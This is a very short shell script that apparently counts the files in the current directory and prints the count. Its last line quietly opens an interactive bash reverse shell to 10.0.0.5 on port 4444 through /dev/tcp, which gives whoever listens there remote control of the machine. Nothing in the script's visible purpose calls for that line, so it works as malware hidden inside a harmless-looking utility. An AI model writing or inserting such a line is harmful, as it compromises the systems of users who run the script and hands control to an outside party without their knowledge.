#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
sh -c "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"
